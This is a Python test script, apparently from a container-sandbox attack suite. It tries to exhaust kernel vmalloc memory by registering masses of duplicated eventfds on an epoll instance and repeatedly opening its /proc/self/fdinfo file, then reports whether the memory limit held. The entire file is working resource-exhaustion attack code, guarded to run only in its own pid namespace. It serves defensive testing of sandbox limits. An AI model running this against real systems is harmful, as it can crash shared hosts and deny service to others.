# class: resource
# tries: memory of the kernel: text of /proc/self/fdinfo that nobody has read to its end
# network: any
# bomb: yes
# with: --memory 256
# timeout: 40
import os
import select
import time

HOST = "@PIDNS@"  # filled in by attack_suite.py
if not HOST.startswith("pid:") or os.readlink("/proc/self/ns/pid") == HOST:
    raise SystemExit("a bomb starts only in a pid namespace of its own")
print("ATTEMPTED: opening", flush=True)


def machine() -> int:
    with open("/proc/meminfo") as file:
        return next(int(line.split()[1]) >> 10 for line in file if line.startswith("VmallocUsed"))


poll = select.epoll()
for file in [os.eventfd(0) for _ in range(300)]:
    for slot in range(400, 1000):
        os.dup2(file, slot)
        poll.register(slot, 0)
os.closerange(400, 1000)
before, end, files = machine(), time.monotonic() + 30, []
while (held := machine() - before) < 1000 and time.monotonic() < end:
    files.append(os.open(f"/proc/self/fdinfo/{poll.fileno()}", os.O_RDONLY))
    os.read(files[-1], 10)
print(
    f"ESCAPED: {held} MB in {len(files)} files" if held >= 1000 else f"HELD: {held} MB", flush=True
)
